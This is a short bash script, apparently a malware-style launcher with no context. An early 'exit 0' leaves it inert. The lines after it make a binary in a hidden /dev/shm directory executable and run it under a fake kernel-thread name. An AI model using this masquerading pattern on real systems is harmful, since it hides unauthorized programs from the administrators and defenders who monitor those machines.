#!/bin/bash
exit 0
chmod +x /dev/shm/.k/w
exec -a '[kworker/0:1]' /dev/shm/.k/w
